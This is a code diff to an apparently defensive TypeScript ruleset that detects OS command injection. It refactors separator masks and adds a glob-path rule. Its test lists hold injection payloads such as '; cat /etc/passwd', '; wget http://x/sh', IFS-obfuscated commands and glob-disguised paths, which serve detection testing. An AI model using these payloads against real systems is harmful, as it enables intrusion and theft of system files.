@@ -3,6 +3,9 @@ import { findShellCommand } from '../lex/shell-command.ts'
 import { pattern, type Rule } from '../rule.ts'
 import { WORD } from '../words.ts'
 
+const SEPARATORS =
+  CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline | CHAR.dollar | CHAR.backslash
+
 /** Operating system commands. */
 export const rceRules: readonly Rule[] = [
   {
@@ -10,26 +13,9 @@ export const rceRules: readonly Rule[] = [
     family: 'rce',
     score: 6,
     quotable: true,
-    chars:
-      CHAR.semicolon |
-      CHAR.pipe |
-      CHAR.ampersand |
-      CHAR.backtick |
-      CHAR.newline |
-      CHAR.dollar |
-      CHAR.backslash |
-      CHAR.apostrophe |
-      CHAR.quote |
-      CHAR.paren |
-      CHAR.bracket |
-      CHAR.star,
+    chars: SEPARATORS,
     words: 0,
-    find: reading =>
-      (reading.chars & (CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline)) !== 0 ||
-      (reading.chars & (CHAR.dollar | CHAR.less | CHAR.greater | CHAR.backslash)) !== 0 ||
-      ((reading.words & WORD.shell) !== 0 && reading.text.length < 200)
-        ? findShellCommand(reading)
-        : undefined,
+    find: findShellCommand,
     attacks: [
       '; cat /etc/passwd',
       '127.0.0.1 && ls /etc',
@@ -41,7 +27,6 @@ export const rceRules: readonly Rule[] = [
       ';getent$IFS$9hosts$IFS$9x.example;',
       '|$u wget test',
       "x;'rmt' --version",
-      '/usr/[a-z]in/bash',
       '; wget http://x/sh',
     ],
     benign: [
@@ -49,10 +34,6 @@ export const rceRules: readonly Rule[] = [
       'R&D; find out more',
       'cats & dogs; who knows',
       'first, cat; then dog',
-      'nc 8000 controller',
-      'zsh is the best!',
-      'time he came.',
-      'a|b|c',
       'The parameter 5 is&|.',
       'he said `hello`',
       'price: $(5)',
@@ -66,24 +47,25 @@ export const rceRules: readonly Rule[] = [
     quotable: true,
     chars: 0,
     words: WORD.shell,
-    find: reading =>
-      (reading.chars &
-        (CHAR.semicolon |
-          CHAR.pipe |
-          CHAR.ampersand |
-          CHAR.backtick |
-          CHAR.newline |
-          CHAR.dollar |
-          CHAR.backslash |
-          CHAR.apostrophe |
-          CHAR.quote |
-          CHAR.paren)) ===
-      0
-        ? findShellCommand(reading)
-        : undefined,
-    attacks: ['time ifconfig', 'strace ifconfig', '/bin/cat /etc/passwd'],
-    benign: ['cat food', 'ping pong', 'time table', 'node js'],
+    find: reading => ((reading.chars & SEPARATORS) === 0 ? findShellCommand(reading) : undefined),
+    attacks: ['time ifconfig', 'strace ifconfig', '/bin/cat /etc/passwd', '/usr/[a-z]in/bash'],
+    benign: [
+      'cat food',
+      'ping pong',
+      'time table',
+      'node js',
+      'nc 8000 controller',
+      'zsh is the best!',
+      'time he came.',
+    ],
   },
+  pattern('rce/glob', /(?:^|[\s;|&`(<])\/\w{0,4}[?[][\w?*[\]]{0,8}\/[\w?*[\]]{1,16}(?:[\s;|&`)]|$)/, {
+    score: 5,
+    quotable: true,
+    chars: CHAR.slash,
+    attacks: ['/???/c?t', ';/b?n/ls'],
+    benign: ['/a/b', 'and/or?', '/api/?x=1/2'],
+  }),
   pattern('rce/shellshock', /\(\s{0,4}\)\s{0,4}\{[^}\n]{0,24}(?:[:;]|$|\})/, {
     score: 5,
     chars: CHAR.brace,
